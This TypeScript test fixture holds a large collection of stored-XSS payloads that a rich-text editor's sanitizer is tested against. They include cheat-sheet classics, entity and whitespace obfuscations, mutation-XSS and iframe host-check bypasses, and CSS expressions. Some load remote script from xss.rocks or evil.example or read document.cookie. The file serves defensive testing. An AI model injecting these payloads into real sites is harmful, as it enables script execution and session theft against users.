// Stored-XSS payloads the rich-text sanitizer must neutralise (test data: at least 100 stored-XSS
// payloads must come out harmless). Collected from the OWASP XSS filter evasion cheat sheet, the
// PortSwigger XSS cheat sheet (event handlers on every tag), published DOMPurify /
// sanitize-html mutation-XSS bypasses, and obfuscations of javascript:/vbscript:/data: URLs.
// Each one is what a hostile teacher could paste into (or send around) an editor; the test
// in richText.xss.test.ts parses the sanitizer's output as a browser would and checks that
// nothing in it can run.

export interface XssPayload {
  /** Where the payload comes from / what trick it uses. */
  kind: string;
  html: string;
}

const p = (kind: string, ...htmls: string[]): XssPayload[] => htmls.map((html) => ({ kind, html }));

/** The OWASP XSS filter evasion cheat sheet classics. */
const owasp = [
  ...p(
    'owasp: script',
    '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
    '<SCRIPT SRC=//xss.rocks/.j>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
    `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
    '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>\\u0061lert(1)</script>',
  ),
  ...p(
    'owasp: polyglot',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  ),
  ...p(
    'owasp: img src javascript:',
    `<IMG SRC="javascript:alert('XSS');">`,
    `<IMG SRC=javascript:alert('XSS')>`,
    `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
    '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
    `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
    `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
    `<IMG SRC='vbscript:msgbox("XSS")'>`,
    `<IMG DYNSRC="javascript:alert('XSS')">`,
    `<IMG LOWSRC="javascript:alert('XSS')">`,
    `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  ),
  ...p(
    'owasp: entity-encoded javascript:',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41">x</a>',
    '<a href="&#x0000006A;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javas&#99ript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ),
  ...p(
    'owasp: whitespace and control characters in the scheme',
    `<IMG SRC="jav\tascript:alert('XSS');">`,
    `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
    `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
    `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
    '<IMG SRC=java\0script:alert("XSS")>',
    `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#x20;javascript:alert(1)">x</a>',
    '<a href="   javascript:alert(1)">x</a>',
    '<a href="\x01\x02javascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="j&#x0D;avascript:alert(1)">x</a>',
    '<a href="javascript\n:alert(1)">x</a>',
    '<a href="javascript://%0Aalert(1)">x</a>',
    '<a href="javascript://comment%0d%0aalert(1)">x</a>',
  ),
  ...p(
    'owasp: event handlers without a tag to hold them',
    `<a onmouseover="alert(document.cookie)">xxs link</a>`,
    '<a onmouseover=alert(document.cookie)>xxs link</a>',
    `<IMG SRC=# onmouseover="alert('xxs')">`,
    `<IMG SRC= onmouseover="alert('xxs')">`,
    `<IMG onmouseover="alert('xxs')">`,
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    `<BODY ONLOAD=alert('XSS')>`,
    `<svg/onload=alert('XSS')>`,
  ),
  ...p(
    'owasp: tags with URL attributes',
    `<BODY BACKGROUND="javascript:alert('XSS')">`,
    `<BGSOUND SRC="javascript:alert('XSS');">`,
    `<BR SIZE="&{alert('XSS')}">`,
    `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    `<TABLE BACKGROUND="javascript:alert('XSS')">`,
    `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
    `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
    `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
    `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe src=http://xss.rocks/scriptlet.html <',
  ),
  ...p(
    'owasp: style',
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
    `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
    `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
    `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
    `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
    '<XSS STYLE="behavior: url(xss.htc);">',
    `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
    `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
    `<DIV STYLE="width: expression(alert('XSS'));">`,
  ),
  ...p(
    'owasp: meta, base, object, embed and other documents',
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
    `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
    `<BASE HREF="javascript:alert('XSS');//">`,
    '<base href="https://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>',
    `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`,
    `<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
    `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
    `\\";alert('XSS');//`,
  ),
];

/** javascript:, vbscript: and data: URLs in the attributes the allowlist keeps. */
const dangerousUrls = [
  ...p(
    'url: javascript/vbscript/data in kept attributes',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=javascript:alert(1)>x</a>',
    '<a/href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" target="_blank" data-type="link">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBSCRIPT:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src=`javascript:alert(1)`>',
    '<img src="https://pena.id/a.png" srcset="javascript:alert(1) 1x">',
    '<audio src="javascript:alert(1)" controls></audio>',
    '<audio controls src="data:audio/mp3;base64,AAAA"></audio>',
    '<audio controls src="vbscript:msgbox(1)" data-media-id="3"></audio>',
    '<a href="\\u006aavascript:alert(1)">x</a>',
    '<a href="javascript\\u003aalert(1)">x</a>',
    '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    '<a href="jav\u0000ascript:alert(1)">x</a>',
    '<video poster=javascript:alert(1)//></video>',
  ),
];

/** Iframes: only YouTube and Brightcove players may stay, and nothing else on them. */
const iframes = [
  ...p(
    'iframe: srcdoc and foreign or script sources',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" style="position:fixed;inset:0;width:100%;height:100%"></iframe>',
    '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://evil.example/?https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x/../../redirect?q=https://evil.example"></iframe>',
    '<iframe src="//www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    `<iframe src="javascript:'<script>alert(1)</script>'"></iframe>`,
    '<iframe src="https://players.brightcove.net.evil.example/1/default_default/index.html?videoId=2"></iframe>',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    // sanitize-html CVE-2021-26539/26540: hostname checks fooled by backslashes and userinfo.
    '<iframe src="https://www.youtube.com\\@evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://evil.example\\www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https:\\\\evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com%2F@evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src=" javascript:alert(1)//https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  ),
];

/** Forms and their submit buttons can run a javascript: action. */
const forms = [
  ...p(
    'form: action and formaction',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<button form=test formaction=javascript:alert(1)>X</button>',
    '<form id=test></form><button form=test formaction=javascript:alert(1)>X</button>',
    '<input type="image" formaction="javascript:alert(1)" src="x">',
    '<input onfocus=alert(1) autofocus>',
    '<isindex action=javascript:alert(1) type=image>',
    '<textarea autofocus onfocus=alert(1)>x</textarea>',
    '<select autofocus onfocus=alert(1)></select>',
    '<keygen autofocus onfocus=alert(1)>',
  ),
  ...p(
    'object, embed and applet',
    '<object data="javascript:alert(1)">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object><param name="src" value="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
    '<applet code="javascript:alert(1)"></applet>',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  ),
];

/** Foreign content: SVG and MathML can hold script, handlers and xlink:href. */
const foreign = [
  ...p(
    'svg and math',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)" /></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)" /><a id="x"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg><image href=x onerror=alert(1)></image></svg>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK</maction></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><a xlink:href="javascript:alert(1)">CLICK</a></math>',
  ),
];

/** Mutation XSS: markup that changes meaning when a browser parses (or re-parses) it. */
const mutation = [
  ...p(
    'mutation xss',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<template><img src=x onerror=alert(1)></template>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
    '<table><svg><style><img src=x onerror=alert(1)></style></svg></table>',
    '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    '<p><svg><style><!--</style><img src=x onerror=alert(1)>--></svg></p>',
    '<a href="https://pena.id"><svg><a xlink:href="javascript:alert(1)">x</a></svg></a>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<? foo="><script>alert(1)</script>">',
    '<!DOCTYPE html><script>alert(1)</script>',
    '<div><![CDATA[</div><img src=x onerror=alert(1)>]]></div>',
  ),
];

/** Breaking out of attributes and tags the allowlist keeps; unclosed and nested markup. */
const breaking = [
  ...p(
    'attribute breaking',
    '<a href="https://pena.id" title="&quot; onmouseover=&quot;alert(1)">x</a>',
    `<a href="https://pena.id" title='x" onclick="alert(1)'>x</a>`,
    '<img alt="\\"><script>alert(1)</script>" src="https://pena.id/a.png">',
    '<img src="https://pena.id/a.png" alt=x onerror=alert(1)//>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<img src="https://pena.id/a.png" data-media-id="7" onerror="alert(1)">',
    '<img src="https://pena.id/a.png" data-media-id=\'7" onerror="alert(1)\'>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src=x onerror\x0b=alert(1)>',
    '<img src=x onerror =alert(1)>',
    '<img src=x one rror=alert(1) onerror=alert(1)>',
    '<a href="https://pena.id" rel="x" target="_blank" onclick="alert(1)">x</a>',
    '<td colspan="2" onclick="alert(1)">x</td>',
    '<span data-type="math" onmouseover=alert(1)>[%x%]</span>',
    '<div data-type="x" onclick="alert(1)" style="text-align:center">x</div>',
  ),
  ...p(
    'nested and unclosed tags',
    '"><script>alert(1)</script>',
    `'><img src=x onerror=alert(1)>`,
    '</p><script>alert(1)</script><p>',
    '<<img src=x onerror=alert(1)//<',
    '<img src=x onerror=alert(1)//',
    '<img src=x onerror=alert(1) ',
    '<img src="x"><script>alert(1)</script>',
    '<img src="x><script>alert(1)</script>',
    '<div><p><a href="javascript:alert(1)"',
    '<a href="javascript:alert(1)" <b>x</b>',
    '<p><b><i><u><s><script>alert(1)</script></s></u></i></b></p>',
    '<table><tr><td><script>alert(1)</script></td></tr></table>',
    '<ul><li><img src=x onerror=alert(1)></li></ul>',
    '<h2><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a></h2>',
    '<p>[%<img src=x onerror=alert(1)>%]</p>',
    '<p>[[%</p><script>alert(1)</script><p>%]]</p>',
  ),
];

/** CSS: only text-align may stay, so expressions and url(javascript:) must go. */
const styles = [
  ...p(
    'style attribute',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="text-align:center;background:url(javascript:alert(1))">x</p>',
    '<p style="text-align: expression(alert(1))">x</p>',
    '<p style="text-align:left; -moz-binding:url(//evil.example/xss.xml#x)">x</p>',
    '<h1 style="text-align:center\\;x:expression(alert(1))">x</h1>',
    '<h2 style="text-align:/**/center;width:expression(alert(1))">x</h2>',
    '<p style="te\\78t-align: center; b\\61ckground: url(javascript:alert(1))">x</p>',
    '<p style="text-align: center&#59; background: url(javascript:alert(1))">x</p>',
    '<div style="x:\\65xpression(alert(1))">x</div>',
    '<img src="https://pena.id/a.png" style="x:expression(alert(1))">',
    '<span style="behavior:url(#default#time2)" onbegin="alert(1)">x</span>',
    '<a href="https://pena.id" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    '<col span="1" style="x:expression(alert(1))">',
    '<p style="text-align:center" style="background:url(javascript:alert(1))">x</p>',
  ),
];

/** Framework template and expression strings: inert text here (the web renders with React). */
const templates = [
  ...p(
    'template injection',
    `<p>{{constructor.constructor('alert(1)')()}}</p>`,
    `{{$on.constructor('alert(1)')()}}`,
    '<p>${alert(1)}</p>',
    '<p>#{alert(1)}</p>',
    '<p><%= alert(1) %></p>',
    '<div ng-app ng-csp><div ng-focus="alert(1)" tabindex=0>x</div></div>',
    `<div v-html="'<img src=x onerror=alert(1)>'">x</div>`,
    '<p x-data="{}" x-init="alert(1)">x</p>',
    '<p data-bind="html: \'<img src=x onerror=alert(1)>\'">x</p>',
    '<span th:utext="${alert(1)}">x</span>',
    // Math stays text for KaTeX, which renders with trust: false (no \href, no \htmlData).
    '<p>[%\\href{javascript:alert(1)}{klik}%]</p>',
    '<p>[[%\\htmlData{onload=alert(1)}{x}%]]</p>',
  ),
];

/**
 * PortSwigger-style: the handler each tag fires without a click (and a few that need one),
 * on the editor's own tags and on the usual suspects.
 */
const HANDLER_TAGS = [
  'p', 'h1', 'h3', 'strong', 'em', 'u', 's', 'sub', 'sup', 'mark', 'code', 'pre', 'blockquote', 'hr', 'br',
  'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'caption', 'col', 'a', 'img', 'audio', 'iframe', 'span', 'div',
  'figure', 'figcaption', 'body', 'video', 'details', 'marquee', 'input', 'select', 'textarea', 'button', 'object', 'embed',
  'svg', 'math', 'style', 'xss', 'frameset', 'keygen', 'meter', 'output', 'picture', 'source', 'track', 'dialog',
];
const handlerAttributes = (tag: string) => {
  switch (tag) {
    case 'img': case 'audio': case 'video': case 'source': case 'track': case 'input':
      return 'src=x onerror=alert(1)';
    case 'iframe': case 'object': case 'embed': case 'body': case 'frameset': case 'svg': case 'style':
      return 'onload=alert(1)';
    case 'details':
      return 'open ontoggle=alert(1)';
    case 'marquee':
      return 'onstart=alert(1)';
    case 'a':
      return 'href="https://pena.id" onfocus=alert(1) autofocus tabindex=1';
    default:
      return 'id=x tabindex=1 onfocus=alert(1) autofocus onanimationstart=alert(1) style="animation-name:spin"';
  }
};
const handlers = [
  ...HANDLER_TAGS.map((tag) => ({ kind: 'event handler on every tag', html: `<${tag} ${handlerAttributes(tag)}>x</${tag}>` })),
  ...p(
    'event handlers needing an action',
    '<p onclick="alert(1)">x</p>',
    '<p onmouseover="alert(1)">x</p>',
    '<p onpointerenter="alert(1)">x</p>',
    '<p oncopy="alert(1)" contenteditable>x</p>',
    '<p onbeforeinput="alert(1)" contenteditable>x</p>',
    '<div ontransitionend="alert(1)" style="transition:color 1s">x</div>',
    '<body onpageshow=alert(1)>',
    '<body onhashchange=alert(1)>',
    '<span onauxclick=alert(1)>x</span>',
    '<h1 ONCLICK=alert(1)>x</h1>',
    '<a href="https://pena.id" OnMoUsEoVeR="alert(1)">x</a>',
  ),
];

export const XSS_PAYLOADS: readonly XssPayload[] = [
  ...owasp,
  ...dangerousUrls,
  ...iframes,
  ...forms,
  ...foreign,
  ...mutation,
  ...breaking,
  ...styles,
  ...templates,
  ...handlers,
];
